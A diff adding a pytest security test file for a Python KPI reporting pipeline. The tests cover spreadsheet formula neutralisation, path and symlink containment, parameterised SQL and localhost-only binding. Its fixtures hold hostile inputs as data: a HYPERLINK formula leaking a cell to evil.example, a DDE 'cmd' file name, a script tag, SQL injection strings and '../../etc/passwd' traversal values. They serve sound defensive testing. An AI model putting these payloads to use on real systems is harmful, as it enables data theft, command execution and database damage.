@@ -1,0 +1,292 @@
+"""Security basics: nothing the project writes runs as a formula, no path escapes its folder,
+every SQL value is a parameter, and nothing listens beyond 127.0.0.1.
+"""
+
+from __future__ import annotations
+
+import ast
+import csv
+import io
+import os
+import re
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from conftest import PLANTS_HEADER, write_csv
+
+PROJECT_DIR = Path(__file__).resolve().parents[1]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+FY2017 = [p.strftime("%Y-%m") for p in pd.period_range("2017-04", "2018-03", freq="M")]
+
+
+# --- formulas: every CSV and XLSX a run writes ----------------------------------------------
+
+
+def is_plain_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return not any(c in text for c in "()=@\t\r\n,;|!") and not text.strip().lower().lstrip("+-").startswith(("n", "i"))
+
+
+def csv_cells(path: Path) -> list[str]:
+    with path.open(newline="", encoding="utf-8") as handle:
+        return [cell for row in csv.reader(handle) for cell in row]
+
+
+def xlsx_cells(path: Path) -> list[tuple[str, object]]:
+    from openpyxl import load_workbook
+
+    workbook = load_workbook(path)  # not data_only: a formula would show as one
+    return [(cell.data_type, cell.value) for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+@pytest.fixture(scope="module")
+def hostile_run(tmp_path_factory):
+    """A whole run (reports, charts, report pack, snapshot) over deliveries full of formulas."""
+    from conftest import Landing
+    from envkpi.pipeline import run
+
+    landing = Landing(tmp_path_factory.mktemp("hostile"))
+    landing.plants([
+        ["P1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=SUM(1+1)", "JP", "", ""],
+        ["+P2", "@plant", "@BU", "JP", "", ""],
+        ["-P3", "-2+3", "-BU", "JP", "", ""],
+        ["P4", "<script>alert(1)</script>", "BU <b>4</b>", "JP", "", "2017-06"],  # leaves the boundary in June
+    ])
+    for plant in ("P1", "+P2", "-P3", "P4"):
+        landing.energy(f"energy_{plant}.csv", [[plant, m, "electricity", "1000", "kWh"] for m in FY2017])
+        landing.production(f"production_{plant}.csv", [[plant, m, "10", "t"] for m in FY2017])
+    landing.targets([["energy_intensity", "2017", "5", "=SUM(1+1)"]])
+    # Rejected values that start formulas, in a folder whose name starts one.
+    landing.energy("=HYPERLINK(1)/energy_bad.csv", [
+        ["P1", "2017-04", "electricity", "=HYPERLINK(\"http://evil.example\",\"x\")", "kWh"],
+        ["@SUM(1)", "2017-05", "electricity", "1", "kWh"],
+        ["P1", "2017-06", "electricity", "-2", "kWh"],
+        ["+1", "2017-07", "electricity", "1", "kWh"],
+        ["P1", "\t=1+1", "electricity", "1", "kWh"],  # trimmed to =1+1
+    ])
+    # Not contract files, listed by name: names are not trimmed, so a tab can start one.
+    write_csv(landing.path / "=cmd|' calc'!A0.csv", ["a"], [["b"]])
+    write_csv(landing.path / "\tnotes.csv", ["a"], [["b"]])
+    result = run(landing.settings)
+    return landing, result
+
+
+def test_every_csv_a_run_writes_starts_no_formula(hostile_run):
+    landing, _ = hostile_run
+    written = [p for p in landing.settings.reports.rglob("*.csv") if "data_docs" not in p.parts]
+    assert {"kpi_results.csv", "rejections.csv", "boundary_warnings.csv", "results_FY2017.csv"} <= {p.name for p in written}
+    for path in written:
+        for cell in csv_cells(path):
+            assert not cell.startswith(FORMULA_STARTS) or is_plain_number(cell), f"{path.name}: {cell!r} starts a formula"
+    rejections = landing.rejections()
+    assert {"'=HYPERLINK(\"http://evil.example\",\"x\")", "'@SUM(1)", "'-2", "'+1", "'=1+1"} <= set(rejections.value)
+    assert {"'=HYPERLINK(1)/energy_bad.csv", "'=cmd|' calc'!A0.csv", "'\tnotes.csv"} <= set(rejections.file)
+    results = pd.read_csv(landing.settings.reports / "kpi_results.csv", dtype=str, keep_default_na=False)
+    assert {"'=SUM(1+1)", "'@BU", "'-BU", "'+P2", "'-P3"} <= set(results.scope_id)
+    warnings = pd.read_csv(landing.settings.reports / "boundary_warnings.csv", dtype=str, keep_default_na=False)
+    assert set(warnings.plant_id) == {"P4"} and len(warnings) == 2 * 9  # energy and production, 2017-07 .. 2018-03
+
+
+def test_every_xlsx_a_run_writes_holds_no_formula(hostile_run):
+    landing, _ = hostile_run
+    written = list(landing.settings.reports.rglob("*.xlsx"))
+    assert written, "the run wrote no XLSX"
+    for path in written:
+        cells = xlsx_cells(path)
+        assert not [value for kind, value in cells if kind == "f"], f"{path.name} holds formulas"
+        texts = [value for kind, value in cells if isinstance(value, str)]
+        assert not [t for t in texts if t.startswith(FORMULA_STARTS)], f"{path.name}: text starting a formula"
+        assert any(t.startswith("'=") for t in texts), f"{path.name}: the hostile scope ids are missing"
+
+
+def test_html_and_markdown_of_the_pack_escape_delivered_text(hostile_run):
+    landing, _ = hostile_run
+    for path in landing.settings.reports.rglob("*.html"):
+        if "data_docs" not in path.parts:
+            assert "<script>" not in path.read_text(encoding="utf-8"), path.name
+
+
+def test_export_neutralises_each_formula_start():
+    from envkpi.export import neutralise_formula, neutralise_frame
+
+    for start in FORMULA_STARTS:
+        assert neutralise_formula(f"{start}1+1") == f"'{start}1+1"
+    assert neutralise_formula("plain") == "plain" and neutralise_formula(-5) == -5
+    frame = neutralise_frame(pd.DataFrame({"=col": ["=1", "ok"], "n": [-1.5, 2.0]}))
+    assert list(frame.columns) == ["'=col", "n"] and frame["'=col"].tolist() == ["'=1", "ok"]
+    assert frame["n"].tolist() == [-1.5, 2.0]  # numbers stay numbers
+
+
+# --- paths: nothing read from outside the landing folder, nothing written outside reports ----
+
+
+def test_odd_file_names_load_and_never_lead_outside_the_landing_folder(landing, tmp_path):
+    outside = tmp_path / "outside"
+    secret = write_csv(outside / "energy_secret.csv", ["plant_id", "period", "energy_type", "quantity", "unit"],
+                       [["P1", "2017-04", "electricity", "999999", "kWh"]])
+    landing.plants([["P1", "Plant One", "BU", "JP", "", ""]])
+    landing.energy("energy_工場 1.csv", [["P1", "2017-04", "electricity", "1", "kWh"]])
+    landing.energy("sub dir/energy_x..y.csv", [["P1", "2017-05", "electricity", "2", "kWh"]])
+    landing.energy("年度 2017/energy_P1 (copy).csv", [["P1", "2017-06", "electricity", "3", "kWh"]])
+    landing.energy("..foo/energy_hidden.csv", [["P1", "2017-07", "electricity", "4", "kWh"]])  # a hidden folder
+    (landing.path / "energy_link.csv").symlink_to(secret)  # a link to a file outside
+    (landing.path / "linked_dir").symlink_to(outside, target_is_directory=True)  # a link to a folder outside
+    (landing.path / "energy_up.csv").symlink_to(Path("..") / "outside" / "energy_secret.csv")  # a relative one
+    result = landing.run()
+
+    assert sorted(result.ingest.loaded) == sorted(
+        ["plants.csv", "energy_工場 1.csv", "sub dir/energy_x..y.csv", "年度 2017/energy_P1 (copy).csv"])
+    # Links to a file or to a folder are reported and never followed.
+    assert sorted(result.ingest.ignored) == ["energy_link.csv", "energy_up.csv", "linked_dir"]
+    quantities = landing.query("select quantity from raw_energy order by quantity").quantity.tolist()
+    assert quantities == ["1", "2", "3"]  # not the hidden folder's, never the secret outside
+    files = landing.query("select source_file from delivery order by source_file").source_file.tolist()
+    assert all(not f.startswith(("/", "..")) and "/../" not in f for f in files), files
+    rejections = landing.rejections()
+    assert set(rejections.file) == {"energy_link.csv", "energy_up.csv", "linked_dir"}
+    assert (rejections.reason.str.contains("link")).all()
+
+
+def test_report_file_names_never_leave_the_reports_folder(tmp_path):
+    """Chart and pack names come from the KPI registry and the fiscal year, never a path."""
+    from envkpi import charts
+
+    for hostile in ("../../etc/passwd", "/abs/path", "a/../../b", "..", "energy intensity", "工場"):
+        stem = charts._safe_stem(hostile)
+        target = (tmp_path / "charts" / f"trend_{stem}.png").resolve()
+        assert target.parent == (tmp_path / "charts").resolve() and "/" not in stem and stem not in ("", ".", "..")
+
+
+def test_a_kpi_named_like_a_path_is_drawn_inside_the_charts_folder(tmp_path):
+    from envkpi import charts
+
+    registry = pd.read_csv(PROJECT_DIR / "data" / "reference" / "kpis.csv", dtype=str, keep_default_na=False)
+    registry = registry[registry.kpi == "energy_intensity"].assign(kpi="../../escape")
+    results = pd.DataFrame([{
+        "scope_level": "group", "scope_id": "group", "kpi": "../../escape", "fiscal_year": 2017,
+        "numerator": 10.0, "numerator_unit": "GJ", "denominator": 5.0, "denominator_unit": "t", "value": 2.0,
+        "base_year": 2005, "base_value": 2.5, "change_vs_base_pct": 20.0, "target_pct": 10.0,
+        "achievement_ratio": 2.0, "rating": "achieved", "completeness_pct": 100.0,
+    }])
+    out = tmp_path / "reports" / "charts"
+    written = charts.write_charts(results, out, 2017, "2018-03", registry)
+    assert written and all(p.resolve().parent == out.resolve() for p in written)
+    assert all(out.resolve() in p.resolve().parents for p in tmp_path.rglob("*") if p.is_file())
+
+
+# --- SQL: values are parameters -------------------------------------------------------------
+
+# The only f-strings that put something into SQL text. Each interpolation is an identifier or a
+# fragment from a fixed list in the code, never a delivered or user-given value.
+IDENTIFIER_ONLY = {
+    ("envkpi/ingest.py", "table"): "raw_<kind>, kind from contract.KINDS",
+    ("envkpi/ingest.py", "columns"): "the kind's contract columns (contract.KINDS)",
+    ("envkpi/ingest.py", "slice_key"): "coalesce(<slice column>, '') of contract.KINDS, joined",
+    ("envkpi/ingest.py", "SOURCE_FILE"): "the constant column name source_file",
+    ("envkpi/ingest.py", "SOURCE_ROW"): "the constant column name source_row",
+    ("envkpi/checking.py", "table"): "raw_plants/raw_factors/raw_targets (_REFERENCE_TABLES)",
+    ("envkpi/warehouse.py", "sql_type"): "a type of STORED_NUMBER_TYPES",
+    ("envkpi/published.py", "where"): "built by _where from fixed column expressions, values bound",
+    ("envkpi/published.py", "_SCOPE_ORDER"): "a constant order-by expression",
+    ("envkpi/published.py", "name"): "a parameter name: a key of a fixed filter dict",
+    ("envkpi/published.py", "column"): "a fixed column expression of a filter dict",
+    ("envkpi/published.py", "'and' if where else 'where'"): "a keyword",
+}
+SQL_WORDS = re.compile(
+    r"\b(select\b[\s\S]*\bfrom|insert\s+into|delete\s+from|update\s+\w+\s+set|create\s+(or\s+replace\s+)?"
+    r"(temp\s+)?(table|view|macro)|drop\s+table|attach\b|detach\b|try_cast\(|list_contains\()|\$[a-z_]+",
+    re.IGNORECASE,
+)
+
+
+def python_sources() -> list[Path]:
+    return sorted([*(PROJECT_DIR / "envkpi").rglob("*.py"), *(PROJECT_DIR / "flows").rglob("*.py")])
+
+
+def sql_interpolations(path: Path) -> list[tuple[int, str]]:
+    """(line, expression) of every value interpolated into SQL text in one module."""
+    tree = ast.parse(path.read_text(encoding="utf-8"))
+    found = []
+    for node in ast.walk(tree):
+        if isinstance(node, ast.JoinedStr):
+            text = "".join(part.value for part in node.values if isinstance(part, ast.Constant))
+            if SQL_WORDS.search(text):
+                found += [(node.lineno, ast.unparse(part.value)) for part in node.values
+                          if isinstance(part, ast.FormattedValue)]
+        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "format":
+            if isinstance(node.func.value, ast.Constant) and SQL_WORDS.search(str(node.func.value.value)):
+                found.append((node.lineno, f".format({ast.unparse(node)})"))
+        elif isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod) and isinstance(node.left, ast.Constant):
+            if isinstance(node.left.value, str) and SQL_WORDS.search(node.left.value):
+                found.append((node.lineno, f"% {ast.unparse(node.right)}"))
+    return found
+
+
+def test_every_sql_statement_takes_values_as_parameters():
+    unexpected = []
+    for path in python_sources():
+        relative = path.relative_to(PROJECT_DIR).as_posix()
+        for line, expression in sql_interpolations(path):
+            if (relative, expression.replace('"', "'")) not in IDENTIFIER_ONLY:
+                unexpected.append(f"{relative}:{line}: {{{expression}}}")
+    assert not unexpected, "values formatted into SQL (bind them as parameters):\n" + "\n".join(unexpected)
+    used = {(path.relative_to(PROJECT_DIR).as_posix(), e.replace('"', "'")) for path in python_sources()
+            for _, e in sql_interpolations(path)}
+    assert set(IDENTIFIER_ONLY) <= used, f"no longer formatted into SQL, drop from the list: {set(IDENTIFIER_ONLY) - used}"
+
+
+def test_the_identifiers_formatted_into_sql_come_from_fixed_lists():
+    from envkpi.checking import _REFERENCE_TABLES
+    from envkpi.contract import KINDS
+    from envkpi.warehouse import STORED_NUMBER_TYPES
+
+    assert all(re.fullmatch(r"[a-z]+", kind) for kind in KINDS)
+    assert all(re.fullmatch(r"raw_[a-z]+", table) for table in _REFERENCE_TABLES)
+    assert set(STORED_NUMBER_TYPES.values()) <= {"decimal(38, 10)", "decimal(18, 9)", "double"}
+
+
+def test_the_static_check_finds_a_value_formatted_into_sql(tmp_path):
+    sample = tmp_path / "sample.py"
+    sample.write_text('def f(c, plant):\n    c.execute(f"select * from raw_energy where plant_id = \'{plant}\'")\n'
+                      '    c.execute("delete from delivery where id = %s" % plant)\n'
+                      '    c.execute("select * from t where a = {}".format(plant))\n')
+    assert [e for _, e in sql_interpolations(sample)][0] == "plant" and len(sql_interpolations(sample)) == 3
+
+
+def test_published_queries_bind_hostile_filter_values(hostile_run):
+    from envkpi import published
+
+    landing, _ = hostile_run
+    frame = published.kpi_results(scope_id=["=SUM(1+1)", "' or 1=1 --"], settings=landing.settings)
+    assert set(frame.scope_id) == {"=SUM(1+1)"}
+    assert published.kpi_results(scope_id="x'); drop table kpi_results; --", settings=landing.settings).empty
+
+
+# --- nothing listens beyond this machine ----------------------------------------------------
+
+
+def project_texts() -> dict[str, str]:
+    paths = [PROJECT_DIR / "Makefile", PROJECT_DIR / "README.md", PROJECT_DIR / "pyproject.toml",
+             *python_sources(), *(PROJECT_DIR / "docs").rglob("*.md"), *(PROJECT_DIR / "notebooks").glob("*.py"),
+             *(PROJECT_DIR / "tests" / "e2e").glob("*.py"), *(PROJECT_DIR / "benchmarks").rglob("*.py")]
+    return {p.relative_to(PROJECT_DIR).as_posix(): p.read_text(encoding="utf-8") for p in paths if p.is_file()}
+
+
+def test_the_prefect_server_and_everything_else_bind_to_127_0_0_1_only():
+    texts = project_texts()
+    # Invocations (a command with options, or an argument list), not prose that names the command.
+    starts = [(name, line) for name, text in texts.items() for line in text.splitlines()
+              if (re.search(r"prefect\S*\s+server\s+start", line) and " --" in line) or '"server", "start"' in line]
+    assert any(name == "Makefile" for name, _ in starts), "make server no longer starts the Prefect server"
+    for name, line in starts:
+        assert re.search(r"--host\W+127\.0\.0\.1", line), f"{name}: the Prefect server is started without --host 127.0.0.1: {line}"
+    for name, text in texts.items():
+        assert "0.0.0.0" not in text, f"{name} mentions 0.0.0.0"
+        for url in re.findall(r"PREFECT_API_URL\s*[=:]\s*\S+", text):
+            assert "127.0.0.1" in url or "$" in url.split("//")[0] or "{" in url, f"{name}: {url}"
+    assert "PREFECT_API_URL=http://127.0.0.1:" in texts["Makefile"]
